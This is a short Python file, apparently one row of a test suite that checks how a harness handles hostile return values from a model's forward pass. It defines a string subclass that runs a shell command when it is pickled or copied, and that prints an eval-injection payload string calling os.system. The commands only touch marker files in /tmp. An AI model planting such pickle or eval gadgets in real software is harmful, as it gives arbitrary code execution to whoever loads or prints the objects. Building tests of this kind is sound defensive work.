"""Row 10: returns objects and dtypes that run code when they are pickled, copied, converted or printed elsewhere.

Where: forward
"""

import torch
from torch import nn, os


class Command(str):
    def __reduce__(self):
        return os.system, ("touch /tmp/taken-by-pickle",)

    __deepcopy__ = __copy__ = lambda self, *_: os.system("touch /tmp/taken-by-pickle")
    __str__ = __repr__ = __format__ = lambda self, *_: "__import__('os').system('touch /tmp/taken-by-eval')"


def attack(*_):
    return Command(), {Command(): Command()}
